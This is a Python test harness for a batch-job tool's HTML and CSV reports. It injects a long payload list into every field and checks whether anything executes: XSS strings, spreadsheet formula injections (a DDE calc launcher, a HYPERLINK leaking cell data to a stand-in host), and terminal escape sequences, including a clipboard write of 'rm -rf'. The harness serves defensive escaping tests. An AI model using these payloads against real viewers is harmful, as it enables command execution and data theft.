"""Text that wants to be obeyed, in every place of a report that others have the naming of, opened in a real browser
and a real spreadsheet:

    python -m chaos.inert PAGES       # writes pages and CSV files of each of PAYLOADS, and unescaped ones as a control
    npm install --prefix BROWSER @sparticuz/chromium puppeteer-core       # Chromium, 67 MB
    NODE_PATH=BROWSER/node_modules node chaos/inert.cjs PAGES             # opens them and counts what did something
    # (CHROMIUM=/usr/bin/chromium before it takes one that is installed; puppeteer-core alone is enough then)
    CHROMIUM=... NODE_PATH=... node chaos/looks.cjs PICTURES REPORT.html  # of a real run: is it readable at any width?
    soffice --headless --infilter="Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,0,true" \\
        --convert-to fods --outdir CELLS PAGES/*.csv                      # again with 59 for 44: semicolons
    grep -l table:formula= CELLS/*                                        # control files alone

What needs neither is in tests/test_report.py: a parser, CSV readers, a terminal's control characters.
"""

from __future__ import annotations

import csv
import io
import sys
from pathlib import Path
from typing import Any

from batchq.account.summary import summarise
from batchq.account.usage import Counters, ReplicaAccount, RunAccount
from batchq.config import PricingConfig
from batchq.records import Receipt, Usage
from batchq.report import pages, spreadsheet

ELSEWHERE = "http://127.0.0.1:9/"  # nothing answers there; that it is asked is enough

HTML = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</td></tr></table><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<iframe src="javascript:parent.alert(1)"></iframe>',
    f'<object data="{ELSEWHERE}x.swf"></object>',
    f'<embed src="{ELSEWHERE}x.swf">',
    '<a href="javascript:alert(1)">x</a>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}">',
    f'<base href="{ELSEWHERE}"><img src=x>',
    f'<link rel=stylesheet href="{ELSEWHERE}x.css">',
    f"<style>@import '{ELSEWHERE}x.css';</style>",
    f'<div style="background:url({ELSEWHERE}x)">x</div>',
    '" onmouseover="alert(1)',
    "' onclick='alert(1)",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    r"\u003cscript\u003ealert(1)\u003c/script\u003e",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    f"![x]({ELSEWHERE}x.png)",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    f'=HYPERLINK("{ELSEWHERE}?"&A1,"x")',
    f'=IMPORTXML("{ELSEWHERE}","//a")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\xa0=1+1",
    '"=1+1',
    "\ufeff=1+1",
    "＝1+1",
    "x;=1+1",
    'x;"=1+1',
    'x,"=1+1',
    "x|=1+1",
    'x"\r\n=1+1',
)
CONTROLS = (
    "\x1b]0;owned\x07",
    "\x1b[2J\x1b[1;1H",
    f"\x1b]8;;{ELSEWHERE}\x1b\\x\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJm\x07",
    "\x1bP$q q\x1b\\",
    "\x9b31m",
    "\rbatchq · complete",
    "\x08\x08\x08\x08",
    "good\n  cost       0.0000 USD",
    "\u202egnp.exe",
    "\u2066x\u2069",
    "go\u200bod",
    "\ud800",
    "\U000e0041",
    "a\u2028b",
)
PAYLOADS = (*HTML, *FORMULAS, *CONTROLS)


def summary(text: str) -> dict[str, Any]:
    """What `outcome.finish` would report if everything that somebody else named were called `text`."""
    run = RunAccount(
        text, text, text, 9.0, (ReplicaAccount(text, 1, {"infer": 3.0, "idle": 1.0}, counters=Counters(tokens=2000)),)
    )
    receipt = Receipt(0, 0, True, "a", "f", Usage(rows=9, answers=8, failures=1), {text: 8}, {text: 1})
    return {
        **{
            name: text
            for name in (
                *("job", "state", "output", "read", "model", "quantization", "why", "id_column", "gold_column"),
                *("reuse", "date"),
            )
        },
        **summarise([receipt], [run], PricingConfig(currency=text, as_of=text, per_hour={text: 1.0})),
        "objects": 1,
        "prices": {text: 1.0},
        "rates": {text: text},
        "price_lists": [text],
        "gate": [{"words": text}],
        "budget": 1.0,
        "duplicate_ids": 3,
        "new_inputs": [text],
        "quarantined": [{"name": text, "why": text, "rows": 2}],
    }


def surveyed(text: str) -> list[dict[str, Any]]:
    """The same for a report over many outputs, one of which can't be read."""
    return [{**summary(text), "outputs": 1, "started": text}, {"output": text, "error": text}]


def main() -> None:
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for number, payload in enumerate(PAYLOADS):
        control = (
            f'<!DOCTYPE html>\n<meta charset="utf-8">\n<table><tr><td class="{payload}">{payload}</td></tr></table>\n'
        )
        for kind, html in {
            "report": pages.output_page(summary(payload)),
            "many": pages.survey_page(surveyed(payload), payload),
            "control": control,
        }.items():
            (folder / f"{number:02d}.{kind}.html").write_text(html, encoding="utf-8", errors="surrogatepass")
        raw = io.StringIO()
        csv.writer(raw).writerow(["control", payload, 1])
        for kind, text in {
            "report": spreadsheet.output_csv(summary(payload)),
            "many": spreadsheet.survey_csv(surveyed(payload)),
            "control": raw.getvalue(),
        }.items():
            (folder / f"{number:02d}.{kind}.csv").write_text(text, encoding="utf-8", errors="surrogatepass", newline="")
    print(f"{folder}: pages and CSV files of {len(PAYLOADS)} texts")


if __name__ == "__main__":
    main()
